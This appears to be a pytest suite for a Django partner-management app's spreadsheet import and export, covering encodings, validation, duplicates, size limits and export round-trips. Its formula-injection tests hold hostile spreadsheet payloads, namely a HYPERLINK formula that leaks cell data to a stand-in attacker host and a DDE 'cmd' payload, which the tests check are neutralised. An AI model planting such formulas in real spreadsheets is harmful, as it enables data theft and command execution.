"""Importing partners from spreadsheets people really send, and exporting them safely."""

import codecs
import csv
import io
import re
import zipfile
from datetime import date, timedelta

import openpyxl
import pytest
from django.test import Client
from django.utils import timezone

from cocreate.partners import actions, transfer
from cocreate.partners.models import Level, Partner, PartnerType, PendingImport
from cocreate.partners.tests.helpers import area, riverside_parent

HEADER = ["name", "partner_type", "lived_experience", "email", "phone", "consent_on"]


def partners_url(cast, suffix="", community=None):
    community = community or cast.community
    return f"/o/{cast.org.slug}/c/{community.slug}/partners/{suffix}"


def make_csv(rows, header=HEADER, *, delimiter=",", encoding="utf-8", bom=False) -> bytes:
    out = io.StringIO()
    writer = csv.writer(out, delimiter=delimiter, lineterminator="\r\n")
    writer.writerow(header)
    writer.writerows(rows)
    data = out.getvalue().encode(encoding)
    return codecs.BOM_UTF8 + data if bom else data


def upload(client, cast, data: bytes, name="partners.csv", community=None):
    file = io.BytesIO(data)
    file.name = name
    return client.post(partners_url(cast, "import/", community), {"file": file})


def preview(client, cast, community=None):
    response = client.get(partners_url(cast, "import/preview/", community))
    assert response.status_code == 200
    return response


def confirm(client, cast, page=None, community=None):
    page = page or preview(client, cast, community)
    fields = dict(re.findall(r'name="(ref|rows)" value="([^"]*)"', page.content.decode()))
    return client.post(partners_url(cast, "import/confirm/", community), fields)


def pending_files():
    """The files waiting between a preview and its confirmation (in the database)."""
    return list(PendingImport.objects.order_by("pk").values_list("filename", flat=True))


def problems(response) -> list[str]:
    """Each problem as a screen reader hears it: "Row 7: …"."""
    found = re.findall(
        r'<li><span class="visually-hidden">(Row \d+:) </span>(.*?)</li>', response.content.decode()
    )
    return [f"{row} {problem}" for row, problem in found]


# ---------------------------------------------------------------------------------------------------
# Import


def test_it_shows_every_row_before_importing_and_imports_on_confirmation(client, cast):
    client.force_login(cast.lead)
    data = make_csv(
        [
            ["Ana Ruiz", "community", "yes", "Ana@Example.org", "555 0101", "2026-03-01"],
            ["Riverside Family Center", "Service agency leadership and staff", "no", "", "", ""],
        ]
    )
    response = upload(client, cast, data)
    assert response.status_code == 302 and response["Location"].endswith("/import/preview/")
    page = preview(client, cast).content.decode()
    assert "Ana Ruiz" in page and "Riverside Family Center" in page
    assert "Import the 2 valid rows" in page
    assert not Partner.objects.filter(community=cast.community).exists()  # nothing until confirmed

    response = confirm(client, cast)
    assert response["Location"] == partners_url(cast)
    ana = Partner.objects.get(community=cast.community, name="Ana Ruiz")
    assert (ana.partner_type, ana.lived_experience, ana.email, ana.phone, ana.consent_on) == (
        PartnerType.COMMUNITY,
        True,
        "ana@example.org",
        "555 0101",
        date(2026, 3, 1),
    )
    assert Partner.objects.get(name="Riverside Family Center").partner_type == PartnerType.AGENCY
    first = ana.history.get()  # the audit trail says who imported it, and from which file
    assert first.history_user == cast.lead and first.history_change_reason == "imported from partners.csv"
    assert "2 partners imported from partners.csv" in client.get(partners_url(cast)).content.decode()


def test_it_imports_only_the_valid_rows_and_says_why_the_others_are_left_out(client, cast):
    client.force_login(cast.lead)
    upload(
        client,
        cast,
        make_csv(
            [
                ["Ana Ruiz", "community", "sí", "ana@example.org", "", "31/03/2026"],
                ["Ben Ortiz", "parent", "", "", "", ""],
                ["Cy Diaz", "research", "maybe", "x@", "", "03/15/2026"],
                ["", "funder", "", "", "", ""],
            ]
        ),
    )
    page = preview(client, cast)
    assert problems(page) == [
        "Row 3: the partner type “parent” is not one of: agency, funder, intermediary, community, research; "
        "use one of those (parents, families and youth are “community”)",
        "Row 4: lived experience “maybe” is not yes or no",
        "Row 4: email “x@” is not a valid address",
        "Row 4: consent date “03/15/2026” is not a date; write it as 2026-03-31 or 31/03/2026",
        "Row 5: the name is missing",
    ]
    assert "Import the 1 valid row" in page.content.decode()
    confirm(client, cast, page)
    ana = Partner.objects.get(community=cast.community)
    assert ana.name == "Ana Ruiz" and ana.lived_experience and ana.consent_on == date(2026, 3, 31)


def test_it_finds_duplicates_by_email_then_by_name_in_the_file_and_in_the_community(client, cast):
    riverside_parent(cast)  # Ana Ruiz, ana@example.org
    actions.do_create_partner(cast.community, name="Bea  Lopez", partner_type="agency")  # no email
    client.force_login(cast.lead)
    upload(
        client,
        cast,
        make_csv(
            [
                ["Carla Gil", "community", "", "carla@example.org", "", ""],
                ["Carla G.", "community", "", "CARLA@example.org", "", ""],
                ["Someone Else", "community", "", "ana@example.org", "", ""],
                ["bea lopez", "agency", "", "", "", ""],
                ["Dan Roe", "funder", "", "", "", ""],
                [" dan  ROE ", "funder", "", "", "", ""],
                [
                    "Ana Ruiz",
                    "community",
                    "",
                    "ana.new@example.org",
                    "",
                    "",
                ],  # same name, different email: a new person
            ]
        ),
    )
    page = preview(client, cast)
    assert problems(page) == [
        "Row 3: same email as row 2 in this file",
        "Row 4: already in this community (same email as Ana Ruiz)",
        "Row 5: already in this community (same name as Bea  Lopez)",
        "Row 7: same name as row 6 in this file, and no email to tell them apart",
    ]
    confirm(client, cast, page)
    names = sorted(Partner.objects.filter(community=cast.community).values_list("name", flat=True))
    assert names == ["Ana Ruiz", "Ana Ruiz", "Bea  Lopez", "Carla Gil", "Dan Roe"]


def test_it_counts_an_archived_partner_as_already_here(client, cast):
    actions.do_set_archived(riverside_parent(cast), archived=True)
    client.force_login(cast.lead)
    upload(client, cast, make_csv([["Ana R.", "community", "", "ana@example.org", "", ""]]))
    assert problems(preview(client, cast)) == [
        "Row 2: already in this community (same email as Ana Ruiz (archived))"
    ]


def test_it_only_compares_with_partners_of_the_same_community(client, cast):
    actions.do_create_partner(
        cast.other_community, name="Ana Ruiz", partner_type="community", email="ana@example.org"
    )
    client.force_login(cast.admin)
    upload(client, cast, make_csv([["Ana Ruiz", "community", "", "ana@example.org", "", ""]]))
    assert problems(preview(client, cast)) == []


def test_it_reads_a_windows_spreadsheet_with_accents(client, cast):
    client.force_login(cast.lead)
    upload(client, cast, make_csv([["José Núñez", "comunidad", "sí", "", "", ""]], encoding="cp1252"))
    confirm(client, cast)
    assert Partner.objects.get(community=cast.community).name == "José Núñez"


def test_it_reads_utf8_with_a_byte_order_mark_semicolons_and_spanish_headers(client, cast):
    client.force_login(cast.lead)
    data = make_csv(
        [["María Peña", "Investigadora", "No", "maria@example.org", "+34 600 000 000", "1/2/2026"]],
        header=[
            "Nombre",
            "Tipo",
            "Experiencia vivida",
            "Correo electrónico",
            "Teléfono",
            "Fecha de consentimiento",
        ],
        delimiter=";",
        bom=True,
    )
    upload(client, cast, data)
    confirm(client, cast)
    maria = Partner.objects.get(community=cast.community)
    assert (maria.name, maria.partner_type, maria.lived_experience, maria.phone, maria.consent_on) == (
        "María Peña",
        PartnerType.RESEARCH,
        False,
        "+34 600 000 000",
        date(2026, 2, 1),
    )


def test_it_reads_tab_separated_unicode_text_from_excel(client, cast):
    client.force_login(cast.lead)
    data = make_csv([["Zoë Kim", "intermediary", "", "", "", ""]], delimiter="\t", encoding="utf-16")
    upload(client, cast, data, name="partners.txt")
    confirm(client, cast)
    assert Partner.objects.get(community=cast.community).name == "Zoë Kim"


def test_it_skips_blank_lines_but_keeps_the_row_numbers_people_see(client, cast):
    client.force_login(cast.lead)
    data = b"name,partner_type\r\n\r\nAna,community\r\n,\r\n  ,  \r\nBen,nonsense\r\n"
    upload(client, cast, data)
    page = preview(client, cast)
    assert problems(page) == [
        "Row 6: the partner type “nonsense” is not one of: agency, funder, intermediary, community, research; "
        "use one of those (parents, families and youth are “community”)"
    ]
    assert "Import the 1 valid row" in page.content.decode()


def test_it_refuses_a_file_without_the_required_columns_in_one_message(client, cast):
    client.force_login(cast.lead)
    response = upload(client, cast, make_csv([["Ana", "ana@example.org"]], header=["nombre", "email"]))
    assert response.status_code == 200
    page = response.content.decode()
    assert 'id="id_file_error"' in page
    assert "This file has no column for: partner type." in page
    assert pending_files() == []


@pytest.mark.parametrize(
    "data, message",
    [
        (b"", "The submitted file is empty."),
        (b"name,partner_type\r\n\r\n", "This file has column names but no rows of partners under them."),
        (
            b"name,partner_type,nombre\r\nA,community,B\r\n",
            "Two columns mean the same thing: “name” and “nombre”.",
        ),
        (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 100, "This is an old Excel file (.xls)."),
        (b"PK\x03\x04 not really a workbook", "This file could not be read as an Excel workbook (.xlsx)."),
    ],
)
def test_it_says_what_is_wrong_with_a_file_it_cannot_use(client, cast, data, message):
    client.force_login(cast.lead)
    response = upload(client, cast, data)
    assert response.status_code == 200 and message in response.content.decode()


def test_it_refuses_files_over_the_limits():
    with pytest.raises(transfer.FileRejected, match="larger than 5 MB"):
        transfer.read_table(b"name,partner_type\n" + b"x" * transfer.MAX_BYTES, "big.csv")
    rows = b"".join(b"P%d,community\n" % i for i in range(transfer.MAX_ROWS + 1))
    with pytest.raises(transfer.FileRejected, match="more than 20,000 rows"):
        transfer.read_table(b"name,partner_type\n" + rows, "long.csv")
    assert len(transfer.read_table(b"name,partner_type\n" + rows.split(b"\n", 1)[1], "ok.csv").rows) == 20_000


def test_it_refuses_a_workbook_that_unpacks_to_gigabytes(monkeypatch):
    monkeypatch.setattr(transfer, "MAX_UNZIPPED_BYTES", 1000)
    with pytest.raises(transfer.FileRejected, match="too large once unpacked"):
        transfer.read_table(xlsx([["name", "partner_type"]] + [["x" * 100, "community"]] * 50), "bomb.xlsx")


def test_it_imports_ten_thousand_rows(client, cast):
    client.force_login(cast.lead)
    rows = [
        [f"Person {i:05}", "community", "yes" if i % 3 else "no", f"p{i}@example.org", "", "2026-01-15"]
        for i in range(10_000)
    ]
    upload(client, cast, make_csv(rows))
    page = preview(client, cast)
    assert "Import the 10,000 valid rows" in page.content.decode()
    confirm(client, cast, page)
    assert Partner.objects.filter(community=cast.community).count() == 10_000
    assert Partner.history.filter(community=cast.community).count() == 10_000


def test_cancelling_imports_nothing_and_forgets_the_file(client, cast):
    client.force_login(cast.lead)
    upload(client, cast, make_csv([["Ana", "community", "", "", "", ""]]))
    assert pending_files() == ["partners.csv"]
    response = client.post(partners_url(cast, "import/cancel/"))
    assert response["Location"] == partners_url(cast)
    assert pending_files() == []
    assert not Partner.objects.filter(community=cast.community).exists()
    assert client.get(partners_url(cast, "import/preview/"))["Location"] == partners_url(cast, "import/")


def test_it_saves_nothing_when_the_import_fails_part_way(client, cast, monkeypatch):
    def fail_after_saving(*args, **kwargs):
        from simple_history.utils import bulk_create_with_history

        bulk_create_with_history(*args, **kwargs)
        raise RuntimeError("the database went away")

    client.force_login(cast.lead)
    upload(client, cast, make_csv([["Ana", "community", "", "", "", ""], ["Ben", "agency", "", "", "", ""]]))
    page = preview(client, cast)
    monkeypatch.setattr(transfer, "bulk_create_with_history", fail_after_saving)
    client.raise_request_exception = False
    assert confirm(client, cast, page).status_code == 500
    assert not Partner.objects.filter(community=cast.community).exists()
    assert not Partner.history.filter(community=cast.community).exists()


def test_it_imports_nothing_when_the_rows_changed_since_the_preview(client, cast):
    client.force_login(cast.lead)
    upload(
        client,
        cast,
        make_csv([["Ana", "community", "", "ana@example.org", "", ""], ["Ben", "agency", "", "", "", ""]]),
    )
    page = preview(client, cast)
    riverside_parent(cast)  # someone adds Ana by hand meanwhile
    response = confirm(client, cast, page)
    assert response["Location"].endswith("/import/preview/")
    assert Partner.objects.filter(community=cast.community).count() == 1
    again = preview(client, cast)
    assert "Something changed since the preview" in again.content.decode()
    assert problems(again) == ["Row 2: already in this community (same email as Ana Ruiz)"]
    confirm(client, cast, again)
    assert Partner.objects.filter(community=cast.community, name="Ben").exists()


def test_it_ignores_the_confirmation_of_a_preview_replaced_by_a_newer_upload(client, cast):
    client.force_login(cast.lead)
    upload(client, cast, make_csv([["Ana", "community", "", "", "", ""]]))
    old = preview(client, cast)
    upload(client, cast, make_csv([["Ben", "agency", "", "", "", ""]]))
    confirm(client, cast, old)
    assert not Partner.objects.filter(community=cast.community).exists()


def test_a_preview_belongs_to_the_person_who_uploaded_it(client, cast, django_user_model):
    client.force_login(cast.lead)
    upload(client, cast, make_csv([["Ana", "community", "", "", "", ""]]))
    page = preview(client, cast)
    other = Client()
    other.force_login(cast.practitioner)
    response = confirm(other, cast, page)
    assert response.status_code == 302
    assert not Partner.objects.filter(community=cast.community).exists()


def test_it_clears_away_previews_nobody_finished(client, cast):
    client.force_login(cast.lead)
    upload(client, cast, make_csv([["Ana", "community", "", "", "", ""]]), name="old.csv")
    PendingImport.objects.update(expires_at=timezone.now() - timedelta(minutes=1))  # the tab was closed
    assert client.get(partners_url(cast, "import/preview/"))["Location"] == partners_url(cast, "import/")
    client.force_login(cast.admin)
    upload(client, cast, make_csv([["Ben", "agency", "", "", "", ""]]), community=cast.other_community)
    assert pending_files() == ["partners.csv"]  # the admin's; the lead's expired one is gone


def test_a_preview_waits_in_the_database_for_any_app_server(client, cast, settings, tmp_path):
    settings.MEDIA_ROOT = str(tmp_path)  # had it been written to this server's disk, it would be here
    client.force_login(cast.lead)
    upload(client, cast, make_csv([["Ana", "community", "", "", "", ""]]))
    waiting = PendingImport.objects.get()
    assert (waiting.organization, waiting.community, waiting.created_by) == (
        cast.org,
        cast.community,
        cast.lead,
    )
    assert list(tmp_path.iterdir()) == []
    other_server = Client()  # a fresh session too: the preview is the person's, not the session's
    other_server.force_login(cast.lead)
    confirm(other_server, cast)
    assert Partner.objects.filter(community=cast.community, name="Ana").exists()
    assert pending_files() == []  # let go once imported


def test_confirming_the_same_preview_twice_imports_once(client, cast):
    client.force_login(cast.lead)
    upload(client, cast, make_csv([["Ana", "community", "", "", "", ""]]))
    page = preview(client, cast)
    confirm(client, cast, page)
    again = confirm(client, cast, page)  # a double click, or a second tab
    assert again["Location"] == partners_url(cast, "import/")
    assert Partner.objects.filter(community=cast.community, name="Ana").count() == 1


def test_it_keeps_formula_text_as_typed(client, cast):
    client.force_login(cast.lead)
    hostile = ['=HYPERLINK("https://evil.example/?"&A1,"Click")', "+cmd|' /C calc'!A0", "@SUM(1+1)"]
    upload(client, cast, make_csv([[text, "community", "", "", "", ""] for text in hostile]))
    confirm(client, cast)
    assert sorted(Partner.objects.values_list("name", flat=True)) == sorted(hostile)


# ---------------------------------------------------------------------------------------------------
# XLSX


def xlsx(rows, *, strings=()) -> bytes:
    """A workbook as openpyxl writes it: a text starting with '=' becomes a formula unless in `strings`."""
    workbook = openpyxl.Workbook()
    sheet = workbook.active
    for r, row in enumerate(rows, start=1):
        for c, value in enumerate(row, start=1):
            cell = sheet.cell(r, c, value)
            if value in strings:
                cell.data_type = "s"
    out = io.BytesIO()
    workbook.save(out)
    return out.getvalue()


def with_cached_value(data: bytes, formula: str, value: str) -> bytes:
    """Add the saved result Excel keeps beside a formula (openpyxl writes formulas without one)."""
    source, out = zipfile.ZipFile(io.BytesIO(data)), io.BytesIO()
    with zipfile.ZipFile(out, "w") as target:
        for item in source.infolist():
            content = source.read(item)
            if item.filename == "xl/worksheets/sheet1.xml":
                content = content.replace(
                    f"<f>{formula}</f><v></v>".encode(), f"<f>{formula}</f><v>{value}</v>".encode()
                )
                content = content.replace(
                    f"<f>{formula}</f><v />".encode(), f"<f>{formula}</f><v>{value}</v>".encode()
                )
            target.writestr(item, content)
    return out.getvalue()


def test_it_reads_an_excel_workbook_with_numbers_dates_and_formulas(client, cast):
    client.force_login(cast.lead)
    data = xlsx(
        [
            ["Name", "Partner type", "Lived experience", "Phone", "Consent on", "Notes"],
            ["Ana Ruiz", "community", True, 5550101, date(2026, 3, 1), '=HYPERLINK("https://evil.example")'],
            [None],
            ["Ben Ortiz", "=A1", 1, 5550102.0, "2026-03-02", ""],
            ["Cy Diaz", "funder", "no", None, None, "=1+1"],
        ],
        strings={'=HYPERLINK("https://evil.example")'},
    )
    data = with_cached_value(data, "1+1", "2")
    upload(client, cast, data, name="partners.xlsx")
    page = preview(client, cast)
    assert problems(page) == [
        "Row 4: partner type holds a formula with no saved value: type the value itself, or open the file "
        "in your spreadsheet and save it again"
    ]
    confirm(client, cast, page)
    ana = Partner.objects.get(name="Ana Ruiz")
    assert (ana.lived_experience, ana.phone, ana.consent_on) == (True, "5550101", date(2026, 3, 1))
    assert ana.notes == '=HYPERLINK("https://evil.example")'  # typed as text: kept as text
    assert Partner.objects.get(name="Cy Diaz").notes == "2"  # a formula with its saved value: the value


# ---------------------------------------------------------------------------------------------------
# Export


def add_partners(cast, n, community=None):
    community = community or cast.community
    co_creation = area(community)
    for i in range(n):
        p = actions.do_create_partner(
            community, name=f"Person {i:03}", partner_type="community", email=f"p{i}@example.org"
        )
        actions.do_set_level(
            p, co_creation, current=Level.CONSULT, planned=Level.INVOLVE, reason="r", acting_user=None
        )


def read_csv(response) -> list[list[str]]:
    body = response.content
    assert body.startswith(codecs.BOM_UTF8)  # so that Excel reads the accents right
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))


def test_it_exports_the_import_columns_and_each_areas_level(client, cast):
    ana = riverside_parent(cast)
    actions.do_update_partner(ana, consent_on=date(2026, 3, 1), notes="Prefers WhatsApp")
    actions.do_set_level(
        ana,
        area(cast.community),
        current=Level.COLLABORATE,
        planned=Level.CO_LEAD,
        reason="r",
        acting_user=cast.lead,
    )
    archived = actions.do_create_partner(cast.community, name="Old Partner", partner_type="agency")
    actions.do_set_archived(archived, archived=True)
    actions.do_create_partner(cast.other_community, name="Lakeview Person", partner_type="agency")
    client.force_login(cast.practitioner)
    response = client.get(partners_url(cast, "export.csv"))
    today = date.today().isoformat()
    assert response["Content-Disposition"] == f'attachment; filename="riverside-partners-{today}.csv"'
    header, *rows = read_csv(response)
    assert header == [  # the columns' names in the reader's language: the import reads them back
        "name",
        "partner type",
        "lived experience",
        "is an organization",
        "affiliation",
        "languages",
        "email",
        "phone",
        "consent date",
        "consent wording",
        "notes",
        "level: Co-creation partners and processes",
        "level: Leadership and implementation teams",
        "level: Workforce development",
        "level: Quality and outcome monitoring",
        "level: Media and networking",
    ]
    assert rows == [
        [
            "Ana Ruiz",
            "Community member (parent, family, youth, other)",
            "yes",
            "no",
            "",
            "Spanish, English",
            "ana@example.org",
            "555-0101",
            "2026-03-01",
            "",
            "Prefers WhatsApp",
            "Collaborate",
            "",
            "",
            "",
            "",
        ]
    ]


def test_it_neutralises_formulas_in_exports_and_reads_them_back_as_typed(client, cast):
    hostile = ['=HYPERLINK("https://evil.example/?"&A1,"Click")', "+cmd|' /C calc'!A0", "@SUM(1+1)", "-1+1"]
    for text in hostile:
        actions.do_create_partner(cast.community, name=text, partner_type="community", notes="\t=1+1")
    client.force_login(cast.lead)
    rows = read_csv(client.get(partners_url(cast, "export.csv")))[1:]
    assert sorted(r[0] for r in rows) == sorted("'" + text for text in hostile)
    assert {r[10] for r in rows} == {"'\t=1+1"}

    sheet = openpyxl.load_workbook(io.BytesIO(client.get(partners_url(cast, "export.xlsx")).content)).active
    assert sheet is not None
    names = [str(row[0]) for row in sheet.iter_rows(min_row=2, values_only=True)]
    assert sorted(names) == sorted("'" + text for text in hostile)
    assert all(cell.data_type == "s" for cell in sheet["A"])  # text, never a formula

    client.force_login(cast.admin)  # the export imports again as typed, apostrophes gone
    upload(
        client,
        cast,
        client.get(partners_url(cast, "export.xlsx")).content,
        name="back.xlsx",
        community=cast.other_community,
    )
    confirm(client, cast, community=cast.other_community)
    assert sorted(
        Partner.objects.filter(community=cast.other_community).values_list("name", flat=True)
    ) == sorted(hostile)


def test_an_export_imports_again_cleanly(client, cast):
    ana = riverside_parent(cast)
    actions.do_update_partner(ana, consent_on=date(2026, 3, 1), consent_wording="Yes to texts", notes="José")
    actions.do_create_partner(
        cast.community,
        name="Riverside Family Center",
        partner_type="agency",
        is_organization=True,
        affiliation="County",
        phone="+1 555 0100",
    )
    actions.do_set_level(
        ana, area(cast.community), current=Level.CONSULT, planned=Level.CONSULT, reason="r", acting_user=None
    )
    client.force_login(cast.admin)
    fields = [
        "name",
        "partner_type",
        "lived_experience",
        "is_organization",
        "affiliation",
        "languages",
        "email",
        "phone",
        "consent_on",
        "consent_wording",
        "notes",
    ]
    for fmt in ("csv", "xlsx"):
        Partner.objects.filter(community=cast.other_community).delete()
        exported = client.get(partners_url(cast, f"export.{fmt}")).content
        upload(client, cast, exported, name=f"riverside.{fmt}", community=cast.other_community)
        page = preview(client, cast, cast.other_community)
        assert problems(page) == []
        assert "These columns are not ones we import" in page.content.decode()  # the level columns
        confirm(client, cast, page, community=cast.other_community)
        copies = Partner.objects.filter(community=cast.other_community).order_by("name").values(*fields)
        originals = Partner.objects.filter(community=cast.community).order_by("name").values(*fields)
        assert list(copies) == list(originals), fmt


def test_it_exports_an_excel_workbook(client, cast):
    riverside_parent(cast)
    client.force_login(cast.lead)
    response = client.get(partners_url(cast, "export.xlsx"))
    assert response["Content-Disposition"].endswith(f'riverside-partners-{date.today().isoformat()}.xlsx"')
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    assert sheet.title == "Riverside"
    rows = list(sheet.iter_rows(values_only=True))
    community = "Community member (parent, family, youth, other)"
    assert rows[0][:2] == ("name", "partner type") and rows[1][:3] == ("Ana Ruiz", community, "yes")


def test_it_writes_an_export_in_the_readers_language_that_imports_again(client, cast):
    riverside_parent(cast)
    cast.lead.preferred_language = "es"
    cast.lead.save(update_fields=["preferred_language"])
    client.force_login(cast.lead)
    exported = client.get(partners_url(cast, "export.csv")).content.decode("utf-8-sig")
    header, first = exported.splitlines()[:2]
    assert header.startswith("nombre,tipo de socio,experiencia vivida,")
    assert ",sí," in first and "Miembro de la comunidad" in first
    table = transfer.read_table(exported.encode(), "riverside.csv")
    assert table.columns[:3] == ["name", "partner_type", "lived_experience"]
    assert transfer.check_rows(table, cast.other_community).invalid == []


def test_it_leaves_contact_columns_out_for_people_who_may_not_see_them(cast):
    riverside_parent(cast)
    header, rows = transfer.export_table(cast.community, Partner.objects.all(), with_contact=False)
    assert "email" not in header and "phone" not in header
    assert "ana@example.org" not in rows[0] and "555-0101" not in rows[0]


def test_it_offers_an_empty_spreadsheet_that_imports(client, cast):
    client.force_login(cast.lead)
    template = client.get(partners_url(cast, "import/template.csv")).content
    table = transfer.read_table(template, "template.csv")
    assert table.columns == [c.key for c in transfer.COLUMNS]
    assert transfer.check_rows(table, cast.community).invalid == []


# ---------------------------------------------------------------------------------------------------
# Query budgets: session, user, memberships (with organization and communities) first, as everywhere.


def _warm(client, cast, who):
    client.force_login(who)
    client.get(f"/o/{cast.org.slug}/me/")  # the once-per-session two-factor check happens here


def test_the_preview_query_count_is_flat(client, cast, django_assert_num_queries):
    riverside_parent(cast)
    _warm(client, cast, cast.lead)
    upload(client, cast, make_csv([["Ana", "community", "", "a@example.org", "", ""]]))
    # + community (with initiative); the waiting table (kept in the database, not on one server's
    # disk: one query more than when it was read from a file); the community's partners' names and
    # emails (duplicates)
    with django_assert_num_queries(6):
        preview(client, cast)
    add_partners(cast, 30)
    upload(
        client, cast, make_csv([[f"P{i}", "community", "", f"x{i}@example.org", "", ""] for i in range(300)])
    )
    with django_assert_num_queries(6):
        preview(client, cast)


def test_the_exports_query_count_is_flat(client, cast, django_assert_num_queries):
    riverside_parent(cast)
    _warm(client, cast, cast.lead)
    # + community (with initiative); areas; partners; their levels
    for fmt in ("csv", "xlsx"):
        with django_assert_num_queries(7):
            client.get(partners_url(cast, f"export.{fmt}"))
    add_partners(cast, 30)
    for fmt in ("csv", "xlsx"):
        with django_assert_num_queries(7):
            response = client.get(partners_url(cast, f"export.{fmt}"))
    assert response.status_code == 200
